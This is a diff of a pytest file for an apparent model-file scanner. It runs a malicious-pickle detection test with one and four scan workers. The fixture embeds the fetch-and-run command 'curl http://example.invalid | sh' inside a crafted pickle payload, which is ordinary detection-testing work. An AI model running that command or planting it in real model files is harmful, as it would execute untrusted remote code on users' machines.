@@ -56,10 +56,12 @@ def test_remote_scan_of_a_big_safetensors_repo_transfers_under_one_percent(hub_e
     assert version.files.get(path="model.safetensors").format == "safetensors"
 
 
-def test_remote_malicious_pickle_is_caught(hub_env):
+@pytest.mark.parametrize("workers", [1, 4])
+def test_remote_malicious_pickle_is_caught(hub_env, settings, workers):
+    settings.MODELGATE_SCAN_WORKERS = workers
     version = hub_version(
         hub_env,
-        "remote-test/evil",
+        f"remote-test/evil-{workers}",
         {
             "pytorch_model.bin": malicious_pickle_bytes("curl http://example.invalid | sh"),
             "config.json": b'{"model_type": "custom"}',
